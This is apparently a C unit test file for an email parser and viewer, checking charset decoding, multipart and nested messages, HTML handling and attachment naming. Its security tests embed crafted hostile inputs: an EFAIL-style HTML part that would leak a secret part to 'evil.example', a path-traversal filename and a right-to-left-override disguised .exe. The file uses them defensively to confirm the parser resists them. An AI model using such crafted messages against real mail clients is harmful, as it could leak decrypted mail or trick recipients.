/* SPDX-License-Identifier: MPL-2.0 */
/* Messages taken apart for reading: letters of all shapes, and attacks on readers. */
#include "letter/shown.h"
#include "t.h"

#define ENVELOPED                                                            \
	"From x@example.org Sat Nov 21 11:00:00 2026\nFrom: a@example.org\n" \
	"Content-Type: multipart/mixed; boundary=b\n\n--b\n\nhello\n\n--b\n" \
	"Content-Type: application/x-y\n\noctets\n--b--\n"

#define HEAD  "From: a@example.org\nTo: b@example.org\nSubject: s\nMIME-Version: 1.0\n"
#define PIXEL "R0lGODlhAQABAAAAACw=" /* begins as a GIF */

static LetterShown *
show(const char *octets, const LetterShownOptions *options)
{
	g_autoptr(GError) error = NULL;
	g_autoptr(GBytes) bytes = g_bytes_new_static(octets, strlen(octets));
	LetterShown *shown = letter_shown_new(bytes, options, &error);
	g_assert_no_error(error);
	return shown;
}

/* The same message with CRLF says the same. */
static void
check(const char *octets, const char *text, const char *attachments)
{
	g_auto(GStrv) lines = g_strsplit(octets, "\n", -1);
	g_autofree char *crlf = g_strjoinv("\r\n", lines);
	const char *forms[] = {octets, crlf};
	for (size_t f = 0; f < G_N_ELEMENTS(forms); f++) {
		g_autoptr(LetterShown) shown = show(forms[f], NULL);
		g_assert_cmpstr(shown->text, ==, text);
		g_autoptr(GString) list = g_string_new(NULL);
		for (guint i = 0; i < shown->attachments->len; i++) {
			const LetterAttachment *a = g_ptr_array_index(shown->attachments, i);
			g_string_append_printf(list, "%u %s %s;", a->part, a->name, a->type);
		}
		g_assert_cmpstr(list->str, ==, attachments);
	}
}

static void
test_text(void)
{
	check(HEAD "\nplain\n", "plain\n", "");
	check(HEAD "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: "
		   "quoted-printable\n\n=C3=BC=\n x\n",
	      "ü x\n", "");
	check(HEAD "Content-Type: text/plain; charset=iso-8859-15\nContent-Transfer-Encoding: "
		   "base64\n\npA==\n",
	      "€", "");
	check(HEAD "Content-Type: text/plain; format=flowed; delsp=yes\n\na \nb\n> q \n> r\n",
	      "ab\n> qr\n", "");
	/* blanks behind a soft line break are the transport's (RFC 2045 section 6.7 (3)) */
	check(HEAD "Content-Transfer-Encoding: quoted-printable\n\n=41= \t\nb =\n= c\n", "Ab = c\n",
	      "");
	/* names that are nearly those of character sets; one that is none */
	check(HEAD "Content-Type: text/plain; charset=koi8_r\nContent-Transfer-Encoding: "
		   "quoted-printable\n\n=DE=D4=CF\n",
	      "что\n", "");
	check(HEAD "Content-Type: text/plain; charset=\"ks_c_5601-1987\"\n"
		   "Content-Transfer-Encoding: base64\n\nwMy8urz2\n",
	      "이성수", "");
	/* NEC's characters, katakana of one octet, JIS X 0212, a line that ends too early */
	check(HEAD "Content-Type: text/plain; charset=ISO-2022-JP\n\na\x1b$B-!F|\x1b(Jb\x1b(I1"
		   "\x1b$(D0!\x1b(B\n\x1b$BF\n",
	      "a①日bｱ丂\nF\n", "");
	check(HEAD "Content-Type: text/plain; charset=iso-8859-1\n"
		   "Content-Transfer-Encoding: quoted-printable\n\n=93a=94\n",
	      "“a”\n", "");
	check(HEAD "Content-Type: text/plain; charset=x-none\nContent-Transfer-Encoding: "
		   "quoted-printable\n\n=FC\n",
	      "ü\n", "");
	check(HEAD "Content-Transfer-Encoding: quoted-printable\n\n", "", "");
	check(HEAD "Content-Type: text\n\nplain\n", "plain\n", "");
	check(HEAD "Content-Type: nonsense\n\nplain\n", "plain\n", "");
}

static void
test_multipart(void)
{
	check(HEAD
	      "Content-Type: multipart/mixed; boundary=b\n\n--b\n\none\n--b\n"
	      "Content-Type: text/plain\nContent-Disposition: attachment; filename=n.txt\n\ntwo\n"
	      "--b\n\nthree\n--b--\n",
	      "one\n\nthree", "3 n.txt text/plain;");
	/* the plain side of an alternative, whatever stands beside its HTML */
	check(HEAD "Content-Type: multipart/alternative; boundary=b\n\n--b\n\nplain\n--b\n"
		   "Content-Type: multipart/mixed; boundary=c\n\n--c\nContent-Type: text/html\n\n"
		   "<p>rich</p>\n--c\n\nfooter\n--c--\n--b--\n",
	      "plain", "");
	check(HEAD "Content-Type: multipart/alternative; boundary=b\n\n--b\n"
		   "Content-Type: text/html\n\n<p>rich</p>\n--b--\n",
	      "rich\n", "");
	/* HTML and a footer from a list */
	check(HEAD "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n"
		   "<p>rich</p>\n--b\n\nfooter\n--b--\n",
	      "rich\n\nfooter", "");
	/* the signature of the message itself is nothing to download (RFC 9787 section 6.1) */
	check(HEAD "Content-Type: multipart/signed; boundary=b; protocol=x\n\n--b\n\nsigned\n--b\n"
		   "Content-Type: application/pkcs7-signature; name=smime.p7s\n\nMII=\n--b--\n",
	      "signed", "");
}

/* What nothing divides is text: a reader that shows none of it hides what others show. */
static void
test_undivided(void)
{
	check(HEAD "Content-Type: multipart/mixed; boundary=b\n\nno part\n--c\n\nat all\n",
	      "no part\n--c\n\nat all\n", "");
	check(HEAD "Content-Type: multipart/alternative\n\nno boundary\n", "no boundary\n", "");
	check(HEAD "Content-Type: multipart/mixed; boundary=b\n\n", "", "");
}

/* What is within another message is not in this one; nothing encrypted below the root is opened. */
static void
test_nested(void)
{
	static const char octets[] = HEAD
		"Content-Type: multipart/mixed; boundary=b\n\n--b\n\nouter\n--b\n"
		"Content-Type: message/rfc822\n\nSubject: inner subject\nContent-Type: "
		"multipart/mixed; boundary=i\n\n--i\n\ninner\n--i--\n\n--b\n"
		"Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\n"
		"Content-Transfer-Encoding: base64\n\nMII=\n--b--\n";
	check(octets, "outer",
	      "3 inner subject.eml message/rfc822;4 smime.p7m application/octet-stream;");
	g_autoptr(LetterShown) shown = show(octets, NULL);
	g_autoptr(GBytes) inner = letter_shown_part(shown, 3, NULL);
	T_ASSERT_STR_BYTES(base_bytes_of(inner),
			   "Subject: inner subject\nContent-Type: multipart/mixed; boundary=i\n\n"
			   "--i\n\ninner\n--i--\n");
	g_assert_true(letter_shown_attachment(shown, 3)->is_message);
	g_autoptr(GError) error = NULL;
	g_assert_null(letter_shown_part(shown, 2, &error));
	g_assert_error(error, PS_ERROR, (int)PS_ERROR_NOT_FOUND);
}

static void
test_html(void)
{
	g_autoptr(LetterShown) shown = show(
		HEAD
		"Content-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n"
		"<p>a<img src=cid:i><img src=http://x></p>\n--b\nContent-Type: image/gif\n"
		"Content-ID: <i>\nContent-Transfer-Encoding: base64\n\n" PIXEL "\n--b--\n",
		NULL);
	g_assert_cmpstr(shown->text, ==, "a\n");
	g_assert_true(shown->text_of_html);
	g_assert_cmpuint(shown->remote, ==, 1);
	g_assert_nonnull(strstr(shown->html, "src=\"data:image/gif;base64," PIXEL "\""));
	const LetterAttachment *image = g_ptr_array_index(shown->attachments, 0);
	g_assert_true(image->is_inline);
	g_assert_cmpstr(image->name, ==, "attachment.gif");
	g_assert_cmpuint(image->size, ==, 14);
	LetterShownOptions text_only = {.text_only = true};
	g_autoptr(LetterShown) plain =
		show(HEAD "Content-Type: text/html\n\n<p>a<img src=http://x>\n", &text_only);
	g_assert_null(plain->html);
	g_assert_cmpstr(plain->text, ==, "a\n");
}

/* EFAIL's direct exfiltration: pieces of HTML are never put together before they are read. */
static void
test_efail(void)
{
	g_autoptr(LetterShown) shown = show(
		HEAD
		"Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n"
		"<img src=\"http://evil.example/\n--b\n\nsecret\n--b\nContent-Type: text/html\n\n"
		"\">\n--b--\n",
		NULL);
	g_assert_null(strstr(shown->html, "evil"));
	g_assert_nonnull(strstr(shown->html, "secret"));
	g_assert_nonnull(strstr(shown->text, "secret"));
}

/* RFC 9788 section 4.5.3 */
static void
test_legacy_display(void)
{
	static const char octets[] = HEAD
		"Content-Type: multipart/alternative; boundary=b\n\n--b\n"
		"Content-Type: text/plain; hp-legacy-display=1\n\nSubject: x\nFrom: y\n\nbody\n"
		"--b\nContent-Type: text/html; hp-legacy-display=1\n\n<div class=\"header-"
		"protection-legacy-display\"><pre>Subject: x</pre></div><p>body</p>\n--b--\n";
	LetterShownOptions options = {.legacy_display = true};
	g_autoptr(LetterShown) without = show(octets, &options);
	g_autoptr(LetterShown) with = show(octets, NULL);
	g_assert_cmpstr(without->text, ==, "body");
	g_assert_null(strstr(without->html, "Subject"));
	g_assert_cmpstr(with->text, ==, "Subject: x\nFrom: y\n\nbody");
}

static void
test_names(void)
{
	check(HEAD "Content-Type: multipart/mixed; boundary=b\n\n--b\n"
		   "Content-Type: text/html; name=\"../x.html\"\n\n<script>\n--b\n"
		   "Content-Type: application/x; name*=utf-8''%e2%80%aegpj.exe\n\nMZ\n--b\n"
		   "Content-Type: image/svg+xml\n\n<svg/>\n--b--\n",
	      "",
	      "2 x.html application/octet-stream;3 gpj.exe application/octet-stream;"
	      "4 attachment application/octet-stream;");
}

static void
test_fields_and_search(void)
{
	g_autoptr(LetterShown) shown = show(
		HEAD "X-Field: =?utf-8?Q?=C3=BC?=\n x\nX-Field: two\n\nGrüße aus Köln\n", NULL);
	g_autofree char *field = letter_shown_field(shown, "x-field");
	g_assert_cmpstr(field, ==, "ü x");
	g_assert_null(letter_shown_field(shown, "X-None"));
	g_assert_true(letter_shown_matches(shown, "köln a@example.org"));
	g_assert_false(letter_shown_matches(shown, "Bonn"));
	g_assert_true(letter_matches(base_bytes_str(HEAD "\nneedle\n"), "NEEDLE s"));
	g_assert_false(letter_matches(base_bytes_str(""), "x"));
}

static void
test_no_message(void)
{
	static const char *const none[] = {"", "\n\nbody", "no field at all\n\nbody"};
	for (size_t i = 0; i < G_N_ELEMENTS(none); i++) {
		g_autoptr(GBytes) octets = g_bytes_new_static(none[i], strlen(none[i]));
		g_autoptr(GError) error = NULL;
		g_assert_null(letter_shown_new(octets, NULL, &error));
		g_assert_error(error, PS_ERROR, (int)PS_ERROR_MALFORMED);
	}
}

/* Parts are found behind the line that mailbox files have before a message. */
static void
test_envelope(void)
{
	g_autoptr(GBytes) octets = g_bytes_new_static(ENVELOPED, strlen(ENVELOPED));
	g_autoptr(LetterShown) shown = letter_shown_new(octets, NULL, NULL);
	g_assert_cmpstr(shown->text, ==, "hello\n");
	const LetterAttachment *a = g_ptr_array_index(shown->attachments, 0);
	g_autoptr(GBytes) content = letter_shown_part(shown, a->part, NULL);
	g_assert_true(base_bytes_equal(base_bytes_of(content), BASE_LIT("octets")));
}

int
main(int argc, char **argv)
{
	g_test_init(&argc, &argv, NULL);
	g_test_add_func("/letter/shown/text", test_text);
	g_test_add_func("/letter/shown/multipart", test_multipart);
	g_test_add_func("/letter/shown/undivided", test_undivided);
	g_test_add_func("/letter/shown/nested", test_nested);
	g_test_add_func("/letter/shown/html", test_html);
	g_test_add_func("/letter/shown/efail", test_efail);
	g_test_add_func("/letter/shown/legacy-display", test_legacy_display);
	g_test_add_func("/letter/shown/names", test_names);
	g_test_add_func("/letter/shown/fields-and-search", test_fields_and_search);
	g_test_add_func("/letter/shown/no-message", test_no_message);
	g_test_add_func("/letter/shown/envelope", test_envelope);
	return g_test_run();
}
